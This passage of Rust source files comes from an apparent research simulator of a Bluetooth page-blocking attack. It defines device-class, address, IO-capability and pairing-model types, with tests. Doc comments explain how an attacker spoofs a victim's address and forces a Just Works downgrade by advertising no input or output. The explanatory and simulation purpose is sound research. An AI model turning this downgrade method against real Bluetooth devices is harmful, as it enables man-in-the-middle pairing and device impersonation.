    /// the value in three octets.
    pub const fn new(raw: u32) -> Self {
        ClassOfDevice(raw & 0x00FF_FFFF)
    }

    /// The raw 24-bit word.
    pub const fn raw(self) -> u32 {
        self.0
    }

    /// The three wire octets, little-endian as carried by HCI events.
    pub const fn to_le_bytes(self) -> [u8; 3] {
        [
            (self.0 & 0xff) as u8,
            ((self.0 >> 8) & 0xff) as u8,
            ((self.0 >> 16) & 0xff) as u8,
        ]
    }

    /// Rebuilds a CoD from the HCI wire octets.
    pub const fn from_le_bytes(b: [u8; 3]) -> Self {
        ClassOfDevice(b[0] as u32 | (b[1] as u32) << 8 | (b[2] as u32) << 16)
    }

    /// Major device class field.
    pub fn major_device_class(self) -> MajorDeviceClass {
        MajorDeviceClass::from_bits(((self.0 >> 8) & 0x1f) as u8)
    }

    /// Minor device class field (6 bits, interpretation depends on the major
    /// class).
    pub fn minor_device_class(self) -> u8 {
        ((self.0 >> 2) & 0x3f) as u8
    }

    /// True when the given major service class bit (0-10, bit 13 upward) is
    /// set.
    pub fn has_service_class(self, class: ServiceClass) -> bool {
        self.0 & class.bit() != 0
    }
}

impl fmt::Display for ClassOfDevice {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "0x{:06X} ({})", self.0, self.major_device_class())
    }
}

impl fmt::Debug for ClassOfDevice {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "ClassOfDevice({self})")
    }
}

impl From<u32> for ClassOfDevice {
    fn from(raw: u32) -> Self {
        ClassOfDevice::new(raw)
    }
}

/// Major device class values (bits 12..8 of the CoD).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum MajorDeviceClass {
    /// Miscellaneous.
    Miscellaneous,
    /// Computer (desktop, laptop, ...).
    Computer,
    /// Phone (cellular, smartphone, ...).
    Phone,
    /// LAN / network access point.
    Lan,
    /// Audio/video (headset, hands-free, car audio, ...).
    AudioVideo,
    /// Peripheral (keyboard, mouse, ...).
    Peripheral,
    /// Imaging (printer, camera, ...).
    Imaging,
    /// Wearable.
    Wearable,
    /// Toy.
    Toy,
    /// Health device.
    Health,
    /// Uncategorized or reserved value.
    Uncategorized(u8),
}

impl MajorDeviceClass {
    /// Decodes the 5-bit major device class field.
    pub fn from_bits(bits: u8) -> Self {
        match bits {
            0x00 => MajorDeviceClass::Miscellaneous,
            0x01 => MajorDeviceClass::Computer,
            0x02 => MajorDeviceClass::Phone,
            0x03 => MajorDeviceClass::Lan,
            0x04 => MajorDeviceClass::AudioVideo,
            0x05 => MajorDeviceClass::Peripheral,
            0x06 => MajorDeviceClass::Imaging,
            0x07 => MajorDeviceClass::Wearable,
            0x08 => MajorDeviceClass::Toy,
            0x09 => MajorDeviceClass::Health,
            other => MajorDeviceClass::Uncategorized(other),
        }
    }
}

impl fmt::Display for MajorDeviceClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            MajorDeviceClass::Miscellaneous => f.write_str("miscellaneous"),
            MajorDeviceClass::Computer => f.write_str("computer"),
            MajorDeviceClass::Phone => f.write_str("phone"),
            MajorDeviceClass::Lan => f.write_str("LAN access point"),
            MajorDeviceClass::AudioVideo => f.write_str("audio/video"),
            MajorDeviceClass::Peripheral => f.write_str("peripheral"),
            MajorDeviceClass::Imaging => f.write_str("imaging"),
            MajorDeviceClass::Wearable => f.write_str("wearable"),
            MajorDeviceClass::Toy => f.write_str("toy"),
            MajorDeviceClass::Health => f.write_str("health"),
            MajorDeviceClass::Uncategorized(v) => write!(f, "uncategorized(0x{v:02x})"),
        }
    }
}

/// Major service class bits (bits 23..13 of the CoD).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum ServiceClass {
    /// Limited discoverable mode flag.
    LimitedDiscoverable,
    /// Positioning.
    Positioning,
    /// Networking.
    Networking,
    /// Rendering.
    Rendering,
    /// Capturing.
    Capturing,
    /// Object transfer.
    ObjectTransfer,
    /// Audio.
    Audio,
    /// Telephony.
    Telephony,
    /// Information.
    Information,
}

impl ServiceClass {
    /// The CoD bit for this service class.
    pub fn bit(self) -> u32 {
        match self {
            ServiceClass::LimitedDiscoverable => 1 << 13,
            ServiceClass::Positioning => 1 << 16,
            ServiceClass::Networking => 1 << 17,
            ServiceClass::Rendering => 1 << 18,
            ServiceClass::Capturing => 1 << 19,
            ServiceClass::ObjectTransfer => 1 << 20,
            ServiceClass::Audio => 1 << 21,
            ServiceClass::Telephony => 1 << 22,
            ServiceClass::Information => 1 << 23,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_cod_values_decode() {
        // 0x5A020C: smartphone with networking/capturing/object-transfer/
        // telephony service bits.
        let phone = ClassOfDevice::SMARTPHONE;
        assert_eq!(phone.major_device_class(), MajorDeviceClass::Phone);
        assert!(phone.has_service_class(ServiceClass::Telephony));
        assert!(phone.has_service_class(ServiceClass::Networking));

        // 0x3C0404: audio/video hands-free with rendering/audio bits.
        let hf = ClassOfDevice::HANDS_FREE;
        assert_eq!(hf.major_device_class(), MajorDeviceClass::AudioVideo);
        assert!(hf.has_service_class(ServiceClass::Audio));
        assert!(hf.has_service_class(ServiceClass::Rendering));
    }

    #[test]
    fn wire_round_trip() {
        let cod = ClassOfDevice::new(0x5A020C);
        assert_eq!(cod.to_le_bytes(), [0x0c, 0x02, 0x5a]);
        assert_eq!(ClassOfDevice::from_le_bytes(cod.to_le_bytes()), cod);
    }

    #[test]
    fn raw_is_masked_to_24_bits() {
        assert_eq!(ClassOfDevice::new(0xFF5A020C).raw(), 0x5A020C);
    }

    #[test]
    fn minor_class_extraction() {
        // 0x...04 -> minor class bits 0b000001.
        assert_eq!(ClassOfDevice::HANDS_FREE.minor_device_class(), 0x01);
    }
}
