//! Bluetooth device addresses.

use std::fmt;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

use crate::error::ParseAddrError;

/// A 48-bit Bluetooth device address (`BD_ADDR`).
///
/// The address is split by the baseband into three parts:
///
/// * **LAP** — lower address part, 24 bits, used for paging/inquiry access
///   codes,
/// * **UAP** — upper address part, 8 bits,
/// * **NAP** — non-significant address part, 16 bits.
///
/// Internally the bytes are stored most-significant first, i.e. in the same
/// order as the canonical `AA:BB:CC:DD:EE:FF` textual form. HCI transports
/// carry addresses little-endian; use [`BdAddr::to_le_bytes`] /
/// [`BdAddr::from_le_bytes`] at that boundary.
///
/// # Examples
///
/// ```
/// use blap_types::BdAddr;
///
/// let addr: BdAddr = "00:1b:7d:da:71:0a".parse()?;
/// assert_eq!(addr.nap(), 0x001b);
/// assert_eq!(addr.uap(), 0x7d);
/// assert_eq!(addr.lap(), 0xda710a);
/// # Ok::<(), blap_types::ParseAddrError>(())
/// ```
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, Default)]
pub struct BdAddr([u8; 6]);

impl BdAddr {
    /// The all-zero address, used as a sentinel for "no address".
    pub const ZERO: BdAddr = BdAddr([0; 6]);

    /// Creates an address from bytes in canonical (big-endian, display)
    /// order.
    pub const fn new(bytes: [u8; 6]) -> Self {
        BdAddr(bytes)
    }

    /// Creates an address from bytes in HCI wire (little-endian) order.
    pub const fn from_le_bytes(bytes: [u8; 6]) -> Self {
        BdAddr([bytes[5], bytes[4], bytes[3], bytes[2], bytes[1], bytes[0]])
    }

    /// Returns the bytes in canonical (display) order.
    pub const fn to_bytes(self) -> [u8; 6] {
        self.0
    }

    /// Returns the bytes in HCI wire (little-endian) order.
    pub const fn to_le_bytes(self) -> [u8; 6] {
        let b = self.0;
        [b[5], b[4], b[3], b[2], b[1], b[0]]
    }

    /// Non-significant address part (most significant 16 bits).
    pub fn nap(self) -> u16 {
        u16::from_be_bytes([self.0[0], self.0[1]])
    }

    /// Upper address part (8 bits).
    pub fn uap(self) -> u8 {
        self.0[2]
    }

    /// Lower address part (least significant 24 bits) — the part a paging
    /// device encodes into the device access code, and therefore the part an
    /// address-spoofing attacker must clone for the victim's pages to reach
    /// it.
    pub fn lap(self) -> u32 {
        u32::from_be_bytes([0, self.0[3], self.0[4], self.0[5]])
    }

    /// Returns `true` for the all-zero sentinel address.
    pub fn is_zero(self) -> bool {
        self.0 == [0; 6]
    }
}

impl fmt::Display for BdAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
            self.0[0], self.0[1], self.0[2], self.0[3], self.0[4], self.0[5]
        )
    }
}

impl fmt::Debug for BdAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "BdAddr({self})")
    }
}

impl FromStr for BdAddr {
    type Err = ParseAddrError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let parts: Vec<&str> = s.split(':').collect();
        if parts.len() != 6 {
            return Err(ParseAddrError::new(s));
        }
        let mut bytes = [0u8; 6];
        for (dst, part) in bytes.iter_mut().zip(parts) {
            *dst = u8::from_str_radix(part, 16).map_err(|_| ParseAddrError::new(s))?;
        }
        Ok(BdAddr(bytes))
    }
}

impl From<[u8; 6]> for BdAddr {
    fn from(bytes: [u8; 6]) -> Self {
        BdAddr::new(bytes)
    }
}

impl From<BdAddr> for [u8; 6] {
    fn from(addr: BdAddr) -> Self {
        addr.to_bytes()
    }
}

impl AsRef<[u8]> for BdAddr {
    fn as_ref(&self) -> &[u8] {
        &self.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_and_display_round_trip() {
        let addr: BdAddr = "00:1B:7D:DA:71:0A".parse().unwrap();
        assert_eq!(addr.to_string(), "00:1b:7d:da:71:0a");
    }

    #[test]
    fn address_parts_match_paper_example() {
        // Fig 11a of the paper decodes BD_ADDR 00:1b:7d:da:71:0a into
        // LAP 0xda710a, UAP 0x7d, NAP 0x001b.
        let addr: BdAddr = "00:1b:7d:da:71:0a".parse().unwrap();
        assert_eq!(addr.lap(), 0x00da710a);
        assert_eq!(addr.uap(), 0x7d);
        assert_eq!(addr.nap(), 0x001b);
    }

    #[test]
    fn le_byte_order_is_reversed() {
        let addr = BdAddr::new([0x00, 0x1b, 0x7d, 0xda, 0x71, 0x0a]);
        assert_eq!(addr.to_le_bytes(), [0x0a, 0x71, 0xda, 0x7d, 0x1b, 0x00]);
        assert_eq!(BdAddr::from_le_bytes(addr.to_le_bytes()), addr);
    }

    #[test]
    fn rejects_malformed_addresses() {
        assert!("not-an-address".parse::<BdAddr>().is_err());
        assert!("00:1b:7d:da:71".parse::<BdAddr>().is_err());
        assert!("00:1b:7d:da:71:0a:ff".parse::<BdAddr>().is_err());
        assert!("zz:1b:7d:da:71:0a".parse::<BdAddr>().is_err());
    }

    #[test]
    fn zero_sentinel() {
        assert!(BdAddr::ZERO.is_zero());
        assert!(!"00:00:00:00:00:01".parse::<BdAddr>().unwrap().is_zero());
    }
}
