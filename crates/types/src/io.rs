//! IO capabilities, authentication requirements and SSP association models.

use std::fmt;

use serde::{Deserialize, Serialize};

/// Input/output capability advertised during the SSP IO capability exchange.
///
/// The page blocking attack's downgrade step is simply setting the attacker's
/// capability to [`IoCapability::NoInputNoOutput`]: the association model
/// selection (Fig 7) then degenerates to Just Works, whose "numeric
/// comparison with automatic confirmation" never challenges the attacker.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[repr(u8)]
pub enum IoCapability {
    /// Can display a six-digit number but take no input.
    DisplayOnly = 0x00,
    /// Can display a six-digit number and take a yes/no answer.
    DisplayYesNo = 0x01,
    /// Numeric keyboard, no display.
    KeyboardOnly = 0x02,
    /// No input and no output — headsets, car-kits, and spoofing attackers.
    NoInputNoOutput = 0x03,
}

impl IoCapability {
    /// All four capabilities, in HCI numeric order.
    pub const ALL: [IoCapability; 4] = [
        IoCapability::DisplayOnly,
        IoCapability::DisplayYesNo,
        IoCapability::KeyboardOnly,
        IoCapability::NoInputNoOutput,
    ];

    /// Decodes the HCI IO-capability octet.
    pub fn from_u8(v: u8) -> Option<Self> {
        Some(match v {
            0x00 => IoCapability::DisplayOnly,
            0x01 => IoCapability::DisplayYesNo,
            0x02 => IoCapability::KeyboardOnly,
            0x03 => IoCapability::NoInputNoOutput,
            _ => return None,
        })
    }

    /// True when the device can show a six-digit confirmation value.
    pub fn has_display(self) -> bool {
        matches!(self, IoCapability::DisplayOnly | IoCapability::DisplayYesNo)
    }

    /// True when the device can take a yes/no or numeric input.
    pub fn has_input(self) -> bool {
        matches!(
            self,
            IoCapability::DisplayYesNo | IoCapability::KeyboardOnly
        )
    }
}

impl fmt::Display for IoCapability {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            IoCapability::DisplayOnly => "DisplayOnly",
            IoCapability::DisplayYesNo => "DisplayYesNo",
            IoCapability::KeyboardOnly => "KeyboardOnly",
            IoCapability::NoInputNoOutput => "NoInputNoOutput",
        };
        f.write_str(s)
    }
}

/// Authentication requirements octet exchanged alongside the IO capability.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[repr(u8)]
pub enum AuthRequirements {
    /// No MITM protection required, no bonding.
    NoMitmNoBonding = 0x00,
    /// MITM protection required, no bonding.
    MitmNoBonding = 0x01,
    /// No MITM protection required, dedicated bonding.
    NoMitmDedicatedBonding = 0x02,
    /// MITM protection required, dedicated bonding.
    MitmDedicatedBonding = 0x03,
    /// No MITM protection required, general bonding.
    NoMitmGeneralBonding = 0x04,
    /// MITM protection required, general bonding.
    MitmGeneralBonding = 0x05,
}

impl AuthRequirements {
    /// Decodes the HCI authentication-requirements octet.
    pub fn from_u8(v: u8) -> Option<Self> {
        Some(match v {
            0x00 => AuthRequirements::NoMitmNoBonding,
            0x01 => AuthRequirements::MitmNoBonding,
            0x02 => AuthRequirements::NoMitmDedicatedBonding,
            0x03 => AuthRequirements::MitmDedicatedBonding,
            0x04 => AuthRequirements::NoMitmGeneralBonding,
            0x05 => AuthRequirements::MitmGeneralBonding,
            _ => return None,
        })
    }

    /// True when the requirements ask for man-in-the-middle protection.
    pub fn requires_mitm(self) -> bool {
        matches!(
            self,
            AuthRequirements::MitmNoBonding
                | AuthRequirements::MitmDedicatedBonding
                | AuthRequirements::MitmGeneralBonding
        )
    }

    /// True when the requirements ask for bonding (key storage).
    pub fn requires_bonding(self) -> bool {
        !matches!(
            self,
            AuthRequirements::NoMitmNoBonding | AuthRequirements::MitmNoBonding
        )
    }
}

impl fmt::Display for AuthRequirements {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}MITM, {} bonding",
            if self.requires_mitm() { "" } else { "no " },
            if self.requires_bonding() {
                "general/dedicated"
            } else {
                "no"
            }
        )
    }
}

/// The SSP association model selected from the two devices' IO capabilities.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum AssociationModel {
    /// Numeric comparison: both sides display a 6-digit value and confirm.
    NumericComparison,
    /// Just Works: numeric comparison protocol with automatic confirmation —
    /// no MITM resistance. The downgrade target of the paper's attack.
    JustWorks,
    /// Passkey entry: one side displays, the other types the passkey.
    PasskeyEntry,
    /// Out of band: authentication material exchanged over a non-Bluetooth
    /// channel.
    OutOfBand,
}

impl AssociationModel {
    /// Selects the association model from the two sides' IO capabilities,
    /// per the Core Specification mapping table (Vol 3 Part C).
    ///
    /// The table is symmetric in everything the page blocking attack needs:
    /// whenever *either* side is `NoInputNoOutput`, the result is Just
    /// Works — the downgrade the attacker forces by advertising no IO.
    ///
    /// # Examples
    ///
    /// ```
    /// use blap_types::{AssociationModel, IoCapability};
    ///
    /// assert_eq!(
    ///     AssociationModel::select(IoCapability::DisplayYesNo,
    ///                              IoCapability::NoInputNoOutput),
    ///     AssociationModel::JustWorks,
    /// );
    /// assert_eq!(
    ///     AssociationModel::select(IoCapability::DisplayYesNo,
    ///                              IoCapability::DisplayYesNo),
    ///     AssociationModel::NumericComparison,
    /// );
    /// ```
    pub fn select(initiator: IoCapability, responder: IoCapability) -> AssociationModel {
        use IoCapability::*;
        match (initiator, responder) {
            // Any side without input and output: automatic confirmation.
            (NoInputNoOutput, _) | (_, NoInputNoOutput) => AssociationModel::JustWorks,
            // Keyboard-only devices type a passkey the other side displays
            // (or both type the same passkey).
            (KeyboardOnly, KeyboardOnly) => AssociationModel::PasskeyEntry,
            (KeyboardOnly, DisplayOnly | DisplayYesNo) => AssociationModel::PasskeyEntry,
            (DisplayOnly | DisplayYesNo, KeyboardOnly) => AssociationModel::PasskeyEntry,
            // Display-only devices cannot confirm: numeric comparison
            // degenerates to automatic confirmation (Just Works security).
            (DisplayOnly, _) | (_, DisplayOnly) => AssociationModel::JustWorks,
            // Both DisplayYesNo: genuine numeric comparison.
            (DisplayYesNo, DisplayYesNo) => AssociationModel::NumericComparison,
        }
    }

    /// True when the model resists man-in-the-middle attackers.
    ///
    /// Just Works performs the numeric-comparison protocol but auto-confirms,
    /// so it provides no MITM protection — the property the page blocking
    /// attack's downgrade exploits.
    pub fn resists_mitm(self) -> bool {
        !matches!(self, AssociationModel::JustWorks)
    }
}

impl fmt::Display for AssociationModel {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            AssociationModel::NumericComparison => "Numeric Comparison",
            AssociationModel::JustWorks => "Just Works",
            AssociationModel::PasskeyEntry => "Passkey Entry",
            AssociationModel::OutOfBand => "Out of Band",
        };
        f.write_str(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn io_capability_codec() {
        for cap in IoCapability::ALL {
            assert_eq!(IoCapability::from_u8(cap as u8), Some(cap));
        }
        assert_eq!(IoCapability::from_u8(0x04), None);
    }

    #[test]
    fn io_capability_semantics() {
        assert!(IoCapability::DisplayYesNo.has_display());
        assert!(IoCapability::DisplayYesNo.has_input());
        assert!(IoCapability::DisplayOnly.has_display());
        assert!(!IoCapability::DisplayOnly.has_input());
        assert!(!IoCapability::NoInputNoOutput.has_display());
        assert!(!IoCapability::NoInputNoOutput.has_input());
        assert!(IoCapability::KeyboardOnly.has_input());
        assert!(!IoCapability::KeyboardOnly.has_display());
    }

    #[test]
    fn auth_requirements_codec_and_flags() {
        for v in 0..=5u8 {
            let req = AuthRequirements::from_u8(v).unwrap();
            assert_eq!(req as u8, v);
            assert_eq!(req.requires_mitm(), v % 2 == 1);
        }
        assert_eq!(AuthRequirements::from_u8(6), None);
        assert!(AuthRequirements::MitmGeneralBonding.requires_bonding());
        assert!(!AuthRequirements::NoMitmNoBonding.requires_bonding());
    }

    #[test]
    fn selection_matrix_matches_spec() {
        use AssociationModel as M;
        use IoCapability::*;
        // NoInputNoOutput on either side always yields Just Works — the
        // property the downgrade attack exploits.
        for other in IoCapability::ALL {
            assert_eq!(M::select(NoInputNoOutput, other), M::JustWorks);
            assert_eq!(M::select(other, NoInputNoOutput), M::JustWorks);
        }
        assert_eq!(M::select(DisplayYesNo, DisplayYesNo), M::NumericComparison);
        assert_eq!(M::select(KeyboardOnly, DisplayYesNo), M::PasskeyEntry);
        assert_eq!(M::select(DisplayYesNo, KeyboardOnly), M::PasskeyEntry);
        assert_eq!(M::select(KeyboardOnly, KeyboardOnly), M::PasskeyEntry);
        assert_eq!(M::select(DisplayOnly, DisplayYesNo), M::JustWorks);
        assert_eq!(M::select(DisplayYesNo, DisplayOnly), M::JustWorks);
        assert_eq!(M::select(DisplayOnly, DisplayOnly), M::JustWorks);
        assert_eq!(M::select(DisplayOnly, KeyboardOnly), M::PasskeyEntry);
    }

    #[test]
    fn just_works_has_no_mitm_resistance() {
        assert!(!AssociationModel::JustWorks.resists_mitm());
        assert!(AssociationModel::NumericComparison.resists_mitm());
        assert!(AssociationModel::PasskeyEntry.resists_mitm());
        assert!(AssociationModel::OutOfBand.resists_mitm());
    }
}
