//! Connection handles and logical transport addresses.

use std::fmt;

use serde::{Deserialize, Serialize};

/// A 12-bit HCI connection handle identifying an ACL link between a host and
/// its controller.
///
/// Handles appear throughout the paper's HCI dump figures (e.g. `0x0006` in
/// Fig 12a, `0x0003` in Fig 12b).
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct ConnectionHandle(u16);

impl ConnectionHandle {
    /// Maximum valid handle value (12 bits).
    pub const MAX: u16 = 0x0EFF;

    /// Creates a handle, masking to the valid 12-bit range.
    pub const fn new(raw: u16) -> Self {
        ConnectionHandle(raw & 0x0FFF)
    }

    /// The raw handle value.
    pub const fn raw(self) -> u16 {
        self.0
    }
}

impl fmt::Display for ConnectionHandle {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "0x{:04x}", self.0)
    }
}

impl fmt::Debug for ConnectionHandle {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "ConnectionHandle({self})")
    }
}

impl From<u16> for ConnectionHandle {
    fn from(raw: u16) -> Self {
        ConnectionHandle::new(raw)
    }
}

/// A 3-bit logical transport address assigned by the connection initiator
/// (the piconet central) to the responder during connection establishment.
///
/// As §V-A of the paper stresses, after the baseband connection is up the
/// BDADDR is no longer used on the wire — frames are addressed by LT_ADDR.
/// That is why an address-spoofing attacker only has to win the *initial*
/// page race, and why page blocking (becoming the initiator that assigns the
/// LT_ADDR) removes the race entirely.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct LtAddr(u8);

impl LtAddr {
    /// Creates a logical transport address.
    ///
    /// # Panics
    ///
    /// Panics when `raw` is zero (reserved for broadcast) or above 7.
    pub fn new(raw: u8) -> Self {
        assert!((1..=7).contains(&raw), "LT_ADDR must be 1..=7, got {raw}");
        LtAddr(raw)
    }

    /// Fallible constructor for wire decoding.
    pub fn try_new(raw: u8) -> Option<Self> {
        (1..=7).contains(&raw).then_some(LtAddr(raw))
    }

    /// The raw 3-bit value.
    pub const fn raw(self) -> u8 {
        self.0
    }
}

impl fmt::Display for LtAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "LT_ADDR {}", self.0)
    }
}

impl fmt::Debug for LtAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "LtAddr({})", self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn handle_masks_to_12_bits() {
        assert_eq!(ConnectionHandle::new(0xF006).raw(), 0x0006);
        assert_eq!(ConnectionHandle::new(0x0006).to_string(), "0x0006");
    }

    #[test]
    fn lt_addr_accepts_1_through_7() {
        for v in 1..=7 {
            assert_eq!(LtAddr::new(v).raw(), v);
            assert_eq!(LtAddr::try_new(v), Some(LtAddr::new(v)));
        }
        assert_eq!(LtAddr::try_new(0), None);
        assert_eq!(LtAddr::try_new(8), None);
    }

    #[test]
    #[should_panic(expected = "LT_ADDR")]
    fn lt_addr_zero_panics() {
        let _ = LtAddr::new(0);
    }
}
