//! Bluetooth core specification versions.

use std::fmt;

use serde::{Deserialize, Serialize};

/// Bluetooth core specification version implemented by a device.
///
/// The paper's Fig 7 shows that the confirmation-popup policy for Just Works
/// pairing differs between "v4.2 and lower" and "v5.0 and higher"; the
/// simulated host uses [`BtVersion::generation`] to pick the policy.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum BtVersion {
    /// Core spec 2.1 + EDR — first version with Secure Simple Pairing.
    V2_1,
    /// Core spec 3.0.
    V3_0,
    /// Core spec 4.0.
    V4_0,
    /// Core spec 4.1.
    V4_1,
    /// Core spec 4.2.
    V4_2,
    /// Core spec 5.0.
    V5_0,
    /// Core spec 5.1.
    V5_1,
    /// Core spec 5.2.
    V5_2,
    /// Core spec 5.3.
    V5_3,
}

impl BtVersion {
    /// Returns which Fig 7 table generation this version falls into.
    pub fn generation(self) -> SpecGeneration {
        if self <= BtVersion::V4_2 {
            SpecGeneration::V42OrLower
        } else {
            SpecGeneration::V50OrHigher
        }
    }
}

impl fmt::Display for BtVersion {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            BtVersion::V2_1 => "2.1+EDR",
            BtVersion::V3_0 => "3.0",
            BtVersion::V4_0 => "4.0",
            BtVersion::V4_1 => "4.1",
            BtVersion::V4_2 => "4.2",
            BtVersion::V5_0 => "5.0",
            BtVersion::V5_1 => "5.1",
            BtVersion::V5_2 => "5.2",
            BtVersion::V5_3 => "5.3",
        };
        f.write_str(s)
    }
}

/// The two popup-policy generations distinguished by Fig 7 of the paper.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum SpecGeneration {
    /// Version 4.2 or lower: no mandated confirmation popup; most
    /// implementations auto-confirm Just Works when acting as the pairing
    /// initiator.
    V42OrLower,
    /// Version 5.0 or higher: DisplayYesNo devices must show a yes/no
    /// pair-confirmation popup (without the numeric value) even for
    /// Just Works.
    V50OrHigher,
}

impl fmt::Display for SpecGeneration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SpecGeneration::V42OrLower => f.write_str("v4.2 and lower"),
            SpecGeneration::V50OrHigher => f.write_str("v5.0 and higher"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generation_split_matches_fig7() {
        assert_eq!(BtVersion::V2_1.generation(), SpecGeneration::V42OrLower);
        assert_eq!(BtVersion::V4_2.generation(), SpecGeneration::V42OrLower);
        assert_eq!(BtVersion::V5_0.generation(), SpecGeneration::V50OrHigher);
        assert_eq!(BtVersion::V5_3.generation(), SpecGeneration::V50OrHigher);
    }

    #[test]
    fn versions_are_ordered() {
        assert!(BtVersion::V2_1 < BtVersion::V4_2);
        assert!(BtVersion::V4_2 < BtVersion::V5_0);
    }
}
