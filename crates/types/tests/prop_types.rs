//! Property tests for the domain vocabulary.

use blap_types::{BdAddr, ClassOfDevice, Duration, Instant, LinkKey};
use proptest::prelude::*;

proptest! {
    #[test]
    fn bdaddr_bytes_round_trip(bytes in any::<[u8; 6]>()) {
        let addr = BdAddr::new(bytes);
        prop_assert_eq!(addr.to_bytes(), bytes);
        prop_assert_eq!(BdAddr::from_le_bytes(addr.to_le_bytes()), addr);
        // Textual round trip.
        let parsed: BdAddr = addr.to_string().parse().unwrap();
        prop_assert_eq!(parsed, addr);
    }

    #[test]
    fn bdaddr_parts_recompose(bytes in any::<[u8; 6]>()) {
        let addr = BdAddr::new(bytes);
        let recomposed = ((addr.nap() as u64) << 32)
            | ((addr.uap() as u64) << 24)
            | addr.lap() as u64;
        let direct = bytes.iter().fold(0u64, |acc, b| (acc << 8) | *b as u64);
        prop_assert_eq!(recomposed, direct);
    }

    #[test]
    fn link_key_round_trips(bytes in any::<[u8; 16]>()) {
        let key = LinkKey::new(bytes);
        prop_assert_eq!(LinkKey::from_le_bytes(key.to_le_bytes()), key);
        let parsed: LinkKey = key.to_hex().parse().unwrap();
        prop_assert_eq!(parsed, key);
        prop_assert_eq!(key.to_hex().len(), 32);
    }

    #[test]
    fn cod_round_trips(raw in 0u32..0x0100_0000) {
        let cod = ClassOfDevice::new(raw);
        prop_assert_eq!(ClassOfDevice::from_le_bytes(cod.to_le_bytes()), cod);
        prop_assert_eq!(cod.raw(), raw);
    }

    #[test]
    fn duration_slot_conversions(slots in 0u64..1_000_000) {
        let d = Duration::from_slots(slots);
        prop_assert_eq!(d.as_slots(), slots);
        prop_assert_eq!(d.as_micros(), slots * 625);
    }

    #[test]
    fn instant_arithmetic_laws(base in 0u64..1_000_000_000, delta in 0u64..1_000_000) {
        let t0 = Instant::from_micros(base);
        let d = Duration::from_micros(delta);
        let t1 = t0 + d;
        prop_assert_eq!(t1.duration_since(t0), d);
        prop_assert_eq!(t1 - t0, d);
        prop_assert!(t1 >= t0);
    }

    #[test]
    fn bad_hex_keys_rejected(s in "[g-z]{32}") {
        prop_assert!(s.parse::<LinkKey>().is_err());
    }
}
