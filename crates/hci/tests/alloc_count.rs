//! Allocation accounting for the H4 encode hot path.
//!
//! The simulator encodes every packet crossing the HCI seam; before the
//! `encode_into` refactor each packet cost one `Vec` for the frame plus a
//! second intermediate `Vec` from `Command::encode`/`Event::encode` that
//! `HciPacket::encode` immediately copied and dropped. These tests pin the
//! fixed behavior with the shared counting allocator from
//! `blap_obs::prof` (feature `prof-alloc`):
//!
//! * `encode_into` into a warm scratch buffer performs **zero** heap
//!   allocations per packet, and
//! * `encode` (the allocating convenience wrapper) performs exactly one —
//!   the returned frame — never the historical double allocation.
//!
//! Because the allocator is the profiler's, the same installation also
//! exercises scope attribution: allocations made under an open profiling
//! scope land on that scope's report node.

use blap_hci::{AclData, Command, Event, HciPacket, Opcode, StatusCode};
use blap_obs::prof;
use blap_types::ConnectionHandle;

#[global_allocator]
static GLOBAL: prof::CountingAlloc = prof::CountingAlloc;

/// The exact-count assertions below read process-wide counters, so the
/// tests in this binary must not allocate concurrently with each other's
/// measurement windows.
static SERIAL: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn allocations_during(f: impl FnOnce()) -> usize {
    let (count, _bytes) = prof::allocations_during(f);
    count as usize
}

fn sample_packets() -> Vec<HciPacket> {
    let addr = "00:1b:7d:da:71:0a".parse().expect("valid address");
    let key = "c4f16e949f04ee9c0fd6b1023389c324".parse().expect("key");
    vec![
        HciPacket::Command(Command::LinkKeyRequestReply {
            bd_addr: addr,
            link_key: key,
        }),
        HciPacket::Command(Command::CreateConnection {
            bd_addr: addr,
            allow_role_switch: true,
        }),
